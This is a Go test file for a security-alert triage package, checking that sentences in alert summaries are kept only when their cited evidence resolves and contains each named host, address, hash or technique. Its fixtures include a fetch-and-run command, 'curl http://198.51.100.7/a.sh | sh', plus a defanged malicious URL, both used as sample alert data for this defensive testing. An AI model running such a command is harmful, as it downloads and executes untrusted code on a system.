package triage_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/seed-959697dd/soc/triage"
)

// TestProseIsGrounded: a sentence stays with its citations as they resolve, or goes and is counted.
func TestProseIsGrounded(t *testing.T) {
	t.Parallel()
	places := map[string]string{"process.command_line": "curl http://198.51.100.7/a.sh | sh", "signal 1": "a script is fetched and run"}
	g := triage.Grounds{
		Resolve: func(c triage.Cite) (triage.Cite, bool) {
			found, ok := places[c.At]
			return triage.Cite{At: c.At, Value: found}, ok && strings.Contains(found, c.Value)
		},
		Knows: func(v string) bool { return strings.Contains(places["process.command_line"], v) },
	}
	path, signal := triage.Cite{At: "process.command_line", Value: "curl"}, triage.Cite{At: "signal 1"}
	for name, row := range map[string]struct {
		text  string
		cites []triage.Cite
		holds bool
	}{
		"a path and its value":            {"It fetches a script.", []triage.Cite{path}, true},
		"two places":                      {"It fetches a script from 198.51.100.7.", []triage.Cite{path, signal}, true},
		"nothing cited":                   {"It fetches a script.", nil, false},
		"one of two does not resolve":     {"It fetches a script.", []triage.Cite{path, {At: "signal 2"}}, false},
		"another value":                   {"It fetches a script.", []triage.Cite{{At: "process.command_line", Value: "wget"}}, false},
		"an address that stands nowhere":  {"It fetches a script from 203.0.113.99.", []triage.Cite{path}, false},
		"a defanged one of the same kind": {"It fetches hxxp://evil[.]example/a.sh.", []triage.Cite{path}, false},
		"no words":                        {" ", []triage.Cite{path}, false},
	} {
		kept, dropped := g.Ground([]triage.Sentence{{Text: row.text, Cites: row.cites}})
		if row.holds != (len(kept) == 1) || row.holds == (dropped == 1) {
			t.Errorf("%s: %d kept, %d dropped", name, len(kept), dropped)
		}
		if row.holds && kept[0].Cites[0].Value != places[kept[0].Cites[0].At] {
			t.Errorf("%s: shown as %+v", name, kept[0].Cites)
		}
	}
}

// FuzzGround: whatever the text, nothing is lost, nothing stays without a citation that resolves, and what is kept is kept again.
func FuzzGround(f *testing.F) {
	f.Add("It runs 198.51.100.7.", "a", "198.51.100.7", uint8(3))
	f.Add("hxxps://x[.]example/\x00", "b", "", uint8(0))
	f.Fuzz(func(t *testing.T, text, at, value string, n uint8) {
		g := triage.Grounds{
			Resolve: func(c triage.Cite) (triage.Cite, bool) { return c, c.At == "a" },
			Knows:   func(v string) bool { return v == value },
		}
		list := []triage.Sentence{{Text: text, Cites: slices.Repeat([]triage.Cite{{At: at, Value: value}}, int(n%4))}, {Text: value, Cites: []triage.Cite{{At: "a"}}}}
		kept, dropped := g.Ground(list)
		if len(kept)+dropped != len(list) {
			t.Fatalf("%d kept and %d dropped of %d", len(kept), dropped, len(list))
		}
		for _, s := range kept {
			if len(s.Cites) == 0 || s.Cites[0].At != "a" {
				t.Fatalf("%+v rests on nothing", s)
			}
		}
		if again, lost := g.Ground(kept); lost != 0 || len(again) != len(kept) {
			t.Fatalf("%d of %d hold no more", lost, len(kept))
		}
	})
}

// TestProseNamesOnlyWhatItCites: with Says, each value of a sentence stands in what that sentence cites, or the sentence goes.
func TestProseNamesOnlyWhatItCites(t *testing.T) {
	t.Parallel()
	says := map[string]string{
		"event 1": "2026-03-14 09:02:11 UTC\nrundll32.exe started by winword.exe\nWS-12.corp.example\nCORP\\alice\nT1218.011 System Binary Proxy Execution: Rundll32",
		"event 2": "2026-03-14 09:03:00 UTC\nconnected to 203.0.113.9, port 443\nws-13\nbob\n9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
	}
	g := triage.Grounds{
		Resolve: func(c triage.Cite) (triage.Cite, bool) { return c, says[c.At] != "" },
		Says:    func(c triage.Cite) string { return says[c.At] },
		Names:   []string{"ws-12", "ws-13", "alice", "bob"},
	}
	one, two := []triage.Cite{{At: "event 1"}}, []triage.Cite{{At: "event 1"}, {At: "event 2"}}
	for text, row := range map[string]struct {
		cites []triage.Cite
		holds bool
	}{
		"A document started a program of the system.":                  {one, true},
		"At 09:02:11 UTC Word started rundll32.exe on WS-12 as alice.": {one, true},
		"On WS-12 the account CORP\\alice ran Rundll32 (T1218.011).":   {one, true},
		"PowerShell had no part in it.":                                {one, true},
		"Then WS-13 was reached.":                                      {one, false}, // stands in another event
		"Then WS-13 was reached by bob.":                               {two, true},
		"It talked to 203.0.113.9.":                                    {two, true},
		"It talked to 203.0.113[.]9.":                                  {two, true},
		"It talked to 203.0.113.90.":                                   {two, false},
		"It talked to 3.0.113.9.":                                      {two, false},
		"It happened at 09:04.":                                        {two, false},
		"It happened at 09:03.":                                        {two, true},
		"It is T1218.":                                                 {one, false}, // another technique
		"It is T1003.001.":                                             {one, false},
		"It was 40 times.":                                             {one, false},
		"The account mallory7 did it.":                                 {one, false},
		"It was done by Mallory.":                                      {one, false},
		"It wrote C:\\Temp\\x.dll.":                                    {one, false},
		"Its hash is 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08.": {two, true},
		"Its hash is 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a09.": {two, false},
		"Then bob did it.":      {one, false},
		"It is harmless\u200b.": {one, false}, // what hides is no word
	} {
		if kept, _ := g.Ground([]triage.Sentence{{Text: text, Cites: row.cites}}); (len(kept) == 1) != row.holds {
			t.Errorf("%q: %d kept", text, len(kept))
		}
	}
}
